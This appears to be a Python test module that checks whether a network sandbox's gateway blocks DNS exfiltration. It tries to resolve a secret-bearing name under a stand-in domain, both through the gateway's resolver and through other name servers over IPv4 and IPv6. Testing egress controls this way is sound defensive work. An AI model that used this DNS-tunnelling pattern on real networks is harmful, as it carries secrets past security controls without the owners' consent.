"""Carries a secret out as a name to be resolved: a name server of the attacker's would read it, wherever the question comes from."""
import socket

from attack import application, attempt, given, resolve

TITLE = "carry data out by DNS"
WALL = "the gateway's resolver answers listed names only, and asks nobody about others"
SECOND = "no other name server can be reached"
CONFIGURATION = '[network]\negress = ["good.example:80"]\n'
CONTROL_KEEPS = ("net",)
NAME = "the-secret-in-a-name.other.example"


@attempt(inside="no answer", outside="no answer")
def by_the_resolver():
    """The control's question is answered with "no such name", too, after it has been asked outside."""
    try:
        return socket.gethostbyname(NAME)
    except socket.gaierror:
        return "no answer"


@attempt(inside=("EHOSTUNREACH", "EACCES", "ECONNREFUSED", "ENETUNREACH", "timeout"), outside="answer")
def by_another_server():
    return resolve(given["good"], NAME)


@attempt(inside=("EHOSTUNREACH", "EACCES", "ECONNREFUSED", "ENETUNREACH", "timeout"), outside="answer")
def by_another_server6():
    return resolve(given["good6"], NAME)


app = application(globals())
